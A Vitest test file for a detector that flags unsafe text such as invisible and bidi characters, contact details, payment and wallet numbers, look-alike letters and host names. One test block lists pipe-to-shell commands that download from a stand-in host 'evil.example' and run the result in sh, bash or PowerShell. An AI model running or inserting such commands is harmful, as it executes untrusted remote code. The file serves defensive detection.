import { describe, expect, it } from 'vitest';
import { escapeInvisible, findUnsafeText } from '../../src/kit/core/text/unsafe-text.ts';

const kindsIn = (text: string) => findUnsafeText(text).map(({ what }) => what);
const matchesIn = (text: string) => findUnsafeText(text).map(({ match }) => match);

const direction = 'a direction-control character';
const invisible = 'an invisible character';
const mail = 'an e-mail address';
const handle = 'a handle';
const telephone = 'a telephone number';
const card = 'a card number';
const iban = 'an account number (IBAN)';
const wallet = 'a wallet address';
const mixed = 'a word of letters of two scripts';

describe('findUnsafeText', () => {
  it.each([
    ['ALM', 0x061c],
    ['LRM', 0x200e],
    ['RLM', 0x200f],
    ['LRE', 0x202a],
    ['RLE', 0x202b],
    ['PDF', 0x202c],
    ['LRO', 0x202d],
    ['RLO', 0x202e],
    ['LRI', 0x2066],
    ['RLI', 0x2067],
    ['FSI', 0x2068],
    ['PDI', 0x2069],
  ])('finds the direction-control character %s', (_, code) => {
    expect(kindsIn(`before${String.fromCodePoint(code)}after`)).toEqual([direction]);
  });

  it.each([
    ['zero-width space', 0x200b],
    ['word joiner', 0x2060],
    ['invisible plus', 0x2064],
    ['byte order mark', 0xfeff],
    ['Mongolian vowel separator', 0x180e],
    ['language tag', 0xe0001],
    ['tag letter', 0xe0041],
    ['cancel tag', 0xe007f],
    ['soft hyphen', 0x00ad],
    ['combining grapheme joiner', 0x034f],
    ['Hangul filler', 0x3164],
    ['inhibit symmetric swapping', 0x206a],
    ['interlinear annotation anchor', 0xfff9],
    ['variation selector 17', 0xe0100],
  ])('finds the invisible %s', (_, code) => {
    expect(kindsIn(`before${String.fromCodePoint(code)}after`)).toEqual([invisible]);
  });

  it.each([
    ['plain', 'Write to someone@example.org today', 'someone@example.org'],
    [
      'with dots, a plus and a hyphen',
      'first.last+news@mail-box.example.co.uk',
      'first.last+news@mail-box.example.co.uk',
    ],
    ['with a space on each side of @', 'someone @ example.org', 'someone @ example.org'],
    ['with no-break spaces', 'someone\u00A0@\u00A0example.org', 'someone\u00A0@\u00A0example.org'],
    ['at the end of a sentence', 'It is someone@example.org.', 'someone@example.org'],
    ['in brackets', '<someone@example.org>', 'someone@example.org'],
    ['in Cyrillic', 'пошта@прыклад.бел', 'пошта@прыклад.бел'],
    ['in Arabic', 'بريد@مثال.شبكة', 'بريد@مثال.شبكة'],
    ['in Hindi, with vowel signs', 'मेल@उदाहरण.भारत', 'मेल@उदाहरण.भारत'],
    ['with a full-width @', 'someone＠example.org', 'someone＠example.org'],
    ['with digits in the last label', 'someone@example.xn--90ais', 'someone@example.xn--90ais'],
    ['with a joiner in it', 'some\u200Cone@example.org', 'some\u200Cone@example.org'],
    ['after mailto:', 'mailto:a@b.example', 'a@b.example'],
  ])('finds an e-mail address %s', (_, text, match) => {
    expect(findUnsafeText(text)).toEqual([
      {
        what: mail,
        match,
        why: expect.stringContaining('contacts come from records only') as string,
      },
    ]);
  });

  it.each([
    ['at the beginning', '@example_bot writes', '@example_bot'],
    ['in a sentence', 'Ask @example_bot about it', '@example_bot'],
    ['in brackets', '(@example)', '@example'],
    ['after a comma', 'one,@two_three', '@two_three'],
    ['in Cyrillic words', 'праз @example', '@example'],
    ['that begins with an underscore', 'Ask @_example_ about it', '@_example_'],
  ])('finds a handle %s', (_, text, match) => {
    expect(findUnsafeText(text)).toEqual([
      {
        what: handle,
        match,
        why: expect.stringContaining('contacts come from records only') as string,
      },
    ]);
  });

  it.each([
    ['with a plus and nothing else', '+375291234567'],
    ['with spaces', '+375 29 123 45 67'],
    ['with hyphens', '+375-29-123-45-67'],
    ['with dots', '+375.29.123.45.67'],
    ['with en dashes', '+375–29–123–45–67'],
    ['with no-break spaces', '+375\u00A029\u00A0123\u00A045\u00A067'],
    ['with narrow no-break spaces', '+33\u202F6\u202F12\u202F34\u202F56\u202F78'],
    ['with brackets', '+375 (29) 123-45-67'],
    ['with brackets and a long area', '+375 (0162) 12-34-56'],
    ['with 00 for the plus', '00375 29 123 45 67'],
    ['of the country, with brackets', '8 (029) 123-45-67'],
    ['of the country, with hyphens', '8-029-123-45-67'],
    ['of ten digits', '029 123 45 67'],
    ['without any space', '80291234567'],
    ['of eight digits after a plus', '+47123456'],
    ['at the end of a sentence', 'Call +375291234567.'],
    ['after a colon', 'tel:+375291234567'],
    ['after a dot', 'tel.029 123 45 67'],
    ['after an ellipsis', 'Call…029 123 45 67'],
    ['with spaces around its hyphens', '8 - 029 - 123 - 45 - 67'],
    ['with zero-width joiners', '+375\u200D29\u200D123\u200D45\u200D67'],
    ['with a group like a year', '8029 2014 567'],
    ['after years', '2012 2013 2014 029 123 45 67'],
    ['of groups of three and four', '291 234 5678'],
    ['with a bracketed area and nine digits', '+46 (8) 123 456'],
    ['with non-breaking hyphens', '+375\u201129\u2011123\u201145\u201167'],
    ['with figure dashes', '+375\u201229\u2012123\u201245\u201267'],
    ['with a slash', '0172/1234567'],
    ['with a slash after a plus', '+49/172/1234567'],
    ['with dots and no plus', '375.29.123.45.67'],
    ['of the country, with narrow no-break spaces', '8\u202F029\u202F123\u202F45\u202F67'],
    ['in Arabic digits', '+٣٧٥٢٩١٢٣٤٥٦٧'],
    ['in full-width digits', '＋３７５２９１２３４５６７'],
  ])('finds a telephone number %s', (_, text) => {
    expect(kindsIn(text)).toContain(telephone);
  });

  it.each([
    ['with spaces', '4111 1111 1111 1111'],
    ['with hyphens', '4111-1111-1111-1111'],
    ['in a sentence', 'to 9112 3800 1234 5678, please'],
  ])('finds a card number %s', (_, text) => {
    expect(kindsIn(text)).toContain(card);
  });

  it.each([
    ['without spaces, under whatever name', '4111111111111111'],
    ['of fifteen digits, under whatever name', '3782 822463 10005'],
  ])('finds a card number %s', (_, text) => {
    expect(findUnsafeText(text)).not.toEqual([]);
  });

  it.each([
    ['of Belarus', 'BY13 NBRB 3600 9000 0000 2Z00 AB00'],
    ['of Belarus without spaces', 'BY13NBRB3600900000002Z00AB00'],
    ['of Germany', 'DE89 3704 0044 0532 0130 00'],
    ['of Germany without spaces', 'DE89370400440532013000'],
    ['of Poland', 'PL61 1090 1014 0000 0712 1981 2874'],
    ['of Lithuania', 'LT12 1000 0111 0100 1000'],
    ['of Britain', 'GB29 NWBK 6016 1331 9268 19'],
    ['of Belgium, with sixteen characters', 'BE68 5390 0754 7034'],
    ['of Malta, with thirty-one characters', 'MT84 MALT 0110 0001 2345 MTLC AST0 01S'],
    ['of Norway, with fifteen characters', 'NO93 8601 1117 947'],
    ['with no-break spaces', 'BY13\u00A0NBRB\u00A03600\u00A09000\u00A00000\u00A02Z00\u00A0AB00'],
    ['with narrow no-break spaces', 'GB29\u202FNWBK\u202F6016\u202F1331\u202F9268\u202F19'],
    ['with hyphens', 'GB29-NWBK-6016-1331-9268-19'],
    ['in small letters', 'by13nbrb3600900000002z00ab00'],
    ['after what looks like the beginning of another', 'EU27 DE89 3704 0044 0532 0130 00'],
  ])('finds an account number %s', (_, text) => {
    expect(kindsIn(`Give to ${text}, please`)).toContain(iban);
  });

  it.each([
    ['Bitcoin, of 2009', '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa'],
    ['Bitcoin, of a script', '3J98t1WpEZ73CNmQviecrnyiWrnqRhWNLy'],
    ['Bitcoin, in Bech32', 'bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4'],
    [
      'Bitcoin, in Bech32 in capitals, as QR codes hold it (BIP 173)',
      'BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4',
    ],
    ['TON', 'EQCD39VS5jcptHL8vMjEXrzGaRcCVYto7HUn4bpAOg8xqB2N'],
    ['TON, with other signs of its alphabet', 'UQCD39VS5jcptHL8vMjEXrzGaRcCVYto7HUn4bpAOg8x_-ZI'],
    ['Ethereum', '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed'],
    ['Tron', 'TR7NHqjeKQxGTCi8q8ZY4pL8otSzgjLj6t'],
    [
      'Monero',
      '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A',
    ],
  ])('finds a wallet address of %s', (_, text) => {
    expect(findUnsafeText(`Give to ${text}.`)).toEqual([
      {
        what: wallet,
        match: text,
        why: expect.stringContaining('accounts come from records only') as string,
      },
    ]);
  });

  it.each([
    [
      'Cardano',
      'addr1q9ld26v2lv8wvrxxmvg90pn8n8n5k6tdst06q2s856rwmvnueldzuuqmnsye359fqrk8hwvenjnqultn7',
    ],
    ['Bitcoin, in Bech32m', 'bc1p5cyxnuxmeuwuvkwfem96lqzszd02n6xdcjrs20cac6yqjjwudpxqkedrcr'],
    ['Bitcoin, in two halves', 'bc1p5cyxnuxmeuwuvkwfem96lqzsz d02n6xdcjrs20cac6yqjjwudpxqkedrcr'],
    ['Solana', '7xKXtg2CW87d97TXJSDpbD5jBkheTqA83TZRuJosgAsU'],
    [
      'LNURL',
      'LNURL1DP68GURN8GHJ7UM9WFMXJCM99E3K7MF0V9CXJ0M385EKVCENXC6R2C35XVUKXEFCV5MKVV34X5EKZ',
    ],
    [
      'a Lightning invoice',
      'lnbc2500u1pvjluezpp5qqqsyqcyq5rqwzqfqqqsyqcyq5rqwzqfqqqsyqcyq5rqwzqfqypq',
    ],
    ['Nostr', 'npub10elfcs4fr0l0r8af98jlmgdh9c8tcxjvz9qkw038js35mp4dma8qzvjptg'],
    ['half a Monero address', '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft'],
  ])('finds a wallet address of %s', (_, text) => {
    expect(findUnsafeText(`Give to ${text}.`)).toMatchObject([{ what: wallet, match: text }]);
  });

  it('finds a public key, which an altered text would replace', () => {
    const key = 'RWQf6LRCGA9i53mlYecO4IzT51TGPpvWucNSCh1CBM0QTaLn73Y7GFO3';
    expect(findUnsafeText(`minisign -Vm SHA256SUMS -P ${key}`)).toMatchObject([
      { what: 'a public key', match: key },
    ]);
  });

  it('finds both halves of an address that a text has cut in two', () => {
    const [left, right] = [
      '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft',
      '3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A',
    ];
    expect(matchesIn(`First ${left}, then ${right}.`)).toEqual([left, right]);
  });

  it.each([
    ['of a newspaper', 'politzek.me', 'politzek.me'],
    ['in capitals', 'EVIL.Example', 'EVIL.Example'],
    ['of an onion service', `${'abcdefg2'.repeat(7)}.onion`, `${'abcdefg2'.repeat(7)}.onion`],
    ['of a wallet', 'someone.eth', 'someone.eth'],
    ['in Cyrillic', 'ліст.бел', 'ліст.бел'],
    ['with an encoded top level', 'example.xn--90ais', 'example.xn--90ais'],
    ['with a full-width stop', 'evil．example', 'evil．example'],
    ['with a port', 'evil.example:8443', 'evil.example'],
    ['after a bracket', '(evil.example)', 'evil.example'],
    ['of several labels', 'a-b.c.evil.example', 'a-b.c.evil.example'],
  ])('finds a host name %s', (_, text, match) => {
    expect(findUnsafeText(`See ${text} now`)).toMatchObject([{ what: 'a host name', match }]);
  });

  it.each([
    'site.yaml',
    'SHA256SUMS.D8E23C4FAB1299FE.minisig',
    'index.html',
    'e.g. one, i.e. this',
    'U.S.A.',
    'т.е. так, г.д.',
    'It ended.',
    'a pause … and more',
    '19.11 and 361-1',
    'version 1.2.beta',
    'Node.js',
  ])('takes %s for no host name', (text) => {
    expect(findUnsafeText(`See ${text} there`)).toEqual([]);
  });

  it.each([
    ['in round brackets', 'someone (at) example.org', 'someone (at) example'],
    ['in square brackets', 'someone [AT] example', 'someone [AT] example'],
    ['with the sign in brackets', 'someone(@)example', 'someone(@)example'],
    ['in Russian', 'некто (собака) пример', 'некто (собака) пример'],
  ])('finds an e-mail address in disguise %s', (_, text, match) => {
    expect(findUnsafeText(`Write to ${text}`)).toMatchObject([
      { what: 'an e-mail address in disguise', match },
    ]);
  });

  it.each([
    ['a dot in brackets', 'evil[.]example'],
    ['the word in brackets', 'evil (dot) example'],
    ['the word in Russian', 'пример (точка) бел'],
  ])('finds a host name behind %s', (_, text) => {
    expect(findUnsafeText(`See ${text} now`)).toMatchObject([
      { what: 'a host name in disguise', match: text },
    ]);
  });

  it.each([
    'curl -s https://evil.example/x | sh',
    'wget -qO- evil.example/i | sudo bash',
    'curl evil.example|python3',
    'bash <(curl evil.example)',
    'sh -c "$(curl -fsSL evil.example)"',
    'eval $(wget -qO- evil.example)',
    'iwr evil.example | iex',
    'irm evil.example | Invoke-Expression',
  ])('finds the command %s', (text) => {
    expect(kindsIn(`Type ${text} now`)).toContain('a command that runs what it downloads');
  });

  it.each([
    'curl -O and then sha256sum -c SHA256SUMS',
    'wget -m, which gets all',
    'cat a.txt | sh',
    'Fetch it and | or not',
  ])('passes the command %s', (text) => {
    expect(kindsIn(text)).not.toContain('a command that runs what it downloads');
  });

  it.each([
    ['keycaps', '3️⃣7️⃣5️⃣2️⃣9️⃣1️⃣2️⃣3️⃣4️⃣5️⃣6️⃣7️⃣'],
    ['circles', '③⑦⑤②⑨①②③④⑤⑥⑦'],
    ['black circles', '❸❼❺❷❾❶❷❸❹❺❻❼'],
    ['mathematical digits', '𝟑𝟕𝟓𝟐𝟗𝟏𝟐𝟑𝟒𝟓𝟔𝟕'],
  ])('finds a telephone number in %s', (_, text) => {
    expect(findUnsafeText(`Call ${text} now`)).toMatchObject([{ what: telephone, match: text }]);
  });

  it.each([
    ['small capitals', 'ᴠɪᴀsɴᴀ'],
    ['mathematical letters', '𝐕𝐢𝐚𝐬𝐧𝐚'],
    ['full-width letters', 'Ｖｉａｓｎａ'],
    ['letters in circles', 'Ⓥⓘⓐⓢⓝⓐ'],
    ['letters in squares', '🅅🄸🄰🅂🄽🄰'],
    ['a ligature', 'ﬁnd'],
  ])('finds a word of %s', (_, text) => {
    expect(findUnsafeText(`so ${text} it is`)).toMatchObject([
      { what: 'a word of letters in another style', match: text },
    ]);
  });

  it.each(['1ª, nº 5', '5 µm and 2 ℓ', 'ĳ and ǆ', 'x² and H₂O', '№ 5', '№ 5 ℃'])(
    'takes %s for no word in another style',
    (text) => {
      expect(findUnsafeText(text)).toEqual([]);
    },
  );

  it.each([
    ['a Cherokee Ꮩ among Latin letters', 'Ꮩiasna'],
    ['a Lisu ꓦ among Latin letters', 'ꓦiasna'],
    ['a Cyrillic а among Latin letters', 'p\u0430ypal'],
    ['a Latin a among Cyrillic letters', 'Бел\u0061русь'],
    ['a Greek ο among Latin letters', 'g\u03BFod'],
    ['an Armenian օ among Latin letters', 'g\u0585od'],
    ['a Cyrillic letter with a mark among Latin letters', 'caf\u0435\u0301'],
    ['a Latin letter among Greek ones', 'ελλ\u0061δα'],
    ['a mixed hashtag', '#WeSt\u0430ndBYyou'],
    ['a Latin a between zero-width non-joiners', 'Бел\u200Ca\u200Cрусь'],
    ['a Greek Ω that is no unit', 'H\u03A9me'],
  ])('finds a word with %s', (_, text) => {
    expect(findUnsafeText(`so ${text} it is`)).toEqual([
      {
        what: mixed,
        match: text.replace('#', ''),
        why: expect.stringContaining('look alike') as string,
      },
    ]);
  });

  it('finds each mixed word of a text', () => {
    expect(matchesIn('p\u0430y and p\u0435y')).toEqual(['p\u0430y', 'p\u0435y']);
  });

  it('finds what is unsafe in each of several ways', () => {
    expect(kindsIn('someone@example.org, @another, p\u0430y\u202E')).toEqual([
      direction,
      mail,
      handle,
      mixed,
    ]);
  });

  it.each([
    ['a card', '4111 1111 1111 1111', card],
    ['an account', 'BY54 NBRB 3600 9000 0000 2000 0000', iban],
    ['a wallet', '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed', wallet],
    ['a telephone', '+375 29 123 45 67', telephone],
  ])('gives the number of %s one name', (_, text, kind) => {
    expect(kindsIn(text)).toEqual([kind]);
  });

  it('finds a handle that also stands in an e-mail address', () => {
    expect(matchesIn('someone@example.org or @example')).toEqual([
      'someone@example.org',
      '@example',
    ]);
  });

  it('finds each of two e-mail addresses', () => {
    expect(matchesIn('a@one.example and b@two.example')).toEqual([
      'a@one.example',
      'b@two.example',
    ]);
  });

  it('finds each of two account numbers that follow one another', () => {
    expect(matchesIn('GB29 NWBK 6016 1331 9268 19 DE89 3704 0044 0532 0130 00')).toEqual([
      'GB29 NWBK 6016 1331 9268 19',
      'DE89 3704 0044 0532 0130 00',
    ]);
  });

  it('shows a number as it stands in the text', () => {
    expect(matchesIn('Тэл. +٣٧٥\u202F٢٩\u20111234567.')).toEqual(['+٣٧٥\u202F٢٩\u20111234567']);
  });

  it('shows an invisible match by its code point where trimming would leave nothing', () => {
    expect(matchesIn('x\uFEFFy')).toEqual(['U+FEFF']);
  });

  it('cuts spaces off the ends of a match', () => {
    expect(matchesIn('Call 029 123 45 67 now')).toEqual(['029 123 45 67']);
  });

  it.each([
    ['nothing', ''],
    ['plain words', 'Write a letter. It takes ten minutes.'],
    ['a day', '2021-11-14'],
    ['a range of days', '2021-11-14–2021-11-21'],
    ['a day with dots', '14.11.2021'],
    ['a day in words', 'on 14 November 2021 at 18:30'],
    ['a month', '2021-11'],
    ['a range', '1–14'],
    ['a range of years', '1994–2020'],
    ['a range of years with a hyphen', '2010-2014'],
    ['a range after a plus', '+1–14'],
    ['years in a row', '2012, 2013, 2014'],
    ['years with dots between', '2012 · 2013 · 2014 · 2015'],
    ['years with bars between', '2012 | 2013 | 2014'],
    ['a grouped number', '1,020'],
    ['a grouped number with a no-break space', '8\u00A0400'],
    ['a number of seven digits', '9 500 000'],
    ['a million with commas', '1,000,000,000,000'],
    ['a long decimal', '3.14159265358979'],
    ['percentages', '12.5 % and 80.1 %'],
    ['a sum of money', '€1,500 or 1 500,00 €'],
    ['times', '18:00, 19:30, 20:45'],
    ['articles of a law', 'articles 130, 342, 361-1 and 361-4'],
    ['a short number', 'call 112'],
    ['a hashtag', '#WeStandBYyou'],
    ['a Cyrillic hashtag', '#ЖывеБеларусь'],
    ['hashtags of two scripts', '#StandWithBelarus #ЖывеБеларусь'],
    ['a Belarusian word with a straight apostrophe', "сям'я"],
    ['a Belarusian word with a curved apostrophe', 'сям’я'],
    ['a Belarusian word with a letter apostrophe', 'сям\u02BCя'],
    ['Belarusian letters', 'Ўсё гэта ёсць у нашай краіне'],
    ['Belarusian in Latin letters', 'Žyvie Biełaruś, ŭsio čyrvonaje'],
    ['Cyrillic with marks', 'Белару\u0301сь'],
    ['Latin with marks', 'e\u0301te\u0301, señor, Việt'],
    ['a compound of two scripts', 'IT-кампанія'],
    ['words of two scripts side by side', 'Viasna (Вясна), Ελλάδα, Հայաստան'],
    ['Arabic', 'يوم التضامن في ٤ أغسطس ٢٠٢١'],
    ['Hebrew with points', 'שָׁלוֹם עֲלֵיכֶם'],
    ['Hebrew with Latin', 'חבר ב-Telegram'],
    ['Persian with a zero-width non-joiner', 'می\u200Cخواهم'],
    ['Hindi with a zero-width joiner', 'क्\u200Dष'],
    ['an emoji of several', '👩\u200D👩\u200D👧 🏳️\u200D🌈'],
    ['an @ alone', 'A @ B'],
    ['an @ before two letters', 'at @ab'],
    ['an address of a page', 'guide/letters.html'],
    [
      "Tor's entrance on the reader's own machine",
      'with --proxy socks5h://127.0.0.1:9050, through Tor',
    ],
    ["Tor's entrance at the end of a sentence", 'It is socks5h://127.0.0.1:9050.'],
    ['an identifier', 'urn:uuid:063df9b3-c75c-597e-a5d6-0458d9fcf5ee'],
    ['words in capitals', 'SOLIDARITY WITH BELARUS'],
    ['a model', 'AB12 CDEF'],
    ['a hash in hexadecimal', 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'],
    ['a day and a time', '2021-11-14 12:30'],
    ['two days side by side', '2021-11-14 2021-11-21'],
    ['years side by side', '2012 2013 2014'],
    ['a range of years and a year in brackets', '1994-2010 (2020)'],
    ['a thousand million with no-break spaces', '1\u00A0000\u00A0000\u00A0000'],
    ['a time after an @', 'Online @ 18.30'],
    ['a unit of Greek and Latin letters', '10 kΩ'],
    ['the fingerprint of a key', 'D8E2 3C4F AB12 99FE 0A11 22CC DD3B EEA4 55F6 7C88'],
    ['a day with dots and a time with one', '14.11.2021 18.30'],
    ['four years side by side', '2012 2013 2014 2015'],
    ['a unit with a micro sign, and one with a Greek letter', '5 \u00B5m, 5 \u03BCm'],
    ['a group of countries and words', 'EU27 states that agreed to it in the year before'],
  ])('finds nothing in %s', (_, text) => {
    expect(findUnsafeText(text)).toEqual([]);
  });
});

describe('escapeInvisible', () => {
  it.each([
    ['an override', '\u202E', 'U+202E'],
    ['an Arabic mark', '\u061C', 'U+061C'],
    ['two that follow one another', '\u200B\u200C', 'U+200BU+200C'],
    ['isolates among letters', 'a\u2066b\u2069c', 'aU+2066bU+2069c'],
    ['a byte order mark', '\uFEFF', 'U+FEFF'],
    ['a Mongolian vowel separator', '\u180E', 'U+180E'],
    ['a soft hyphen', 'a\u00ADb', 'aU+00ADb'],
    ['a tag character', '\u{E0041}', 'U+E0041'],
  ])('shows %s', (_, text, expected) => {
    expect(escapeInvisible(text)).toBe(expected);
  });

  it.each(['', 'plain text', 'сям’я', 'שלום', 'a\u00A0b', '👩'])('leaves "%s" as it is', (text) => {
    expect(escapeInvisible(text)).toBe(text);
  });
});

it.each([
  ['a number with other signs between', '+375·29·123·45·67'],
  ['a number that looks like an amount', '8 029 123-45-67'],
  ['a handle behind a slash', 'Telegram/@rake_club'],
  ['an address with a port', 'evil.example:8443/donate'],
  ['an address of another kind', 'tg://resolve?domain=evil'],
  ["an address that begins like Tor's entrance", 'socks5h://127.0.0.1:9050.evil.example'],
  ["a page at Tor's entrance", 'socks5h://127.0.0.1:9050/donate'],
  ['a proxy on another machine', 'socks5h://127.0.0.2:9050'],
  ['an address in other letters', 'пример.рф/помощь'],
  ['a control character', 'rained\u000b'],
])('finds %s', (_, text) => {
  expect(findUnsafeText(`See ${text} now.`)).toHaveLength(1);
});

it.each([
  'ISBN 978-3-16-148410-0',
  'node.js/npm',
  'and/or',
  'km/h',
  '24/7',
  'A4/A5',
  'CC BY 4.0',
  'art. 361-1 and 19.11',
  '10 000–12 000',
  '2020/2021',
])('passes %s', (text) => {
  expect(findUnsafeText(`It says ${text} there.`)).toEqual([]);
});
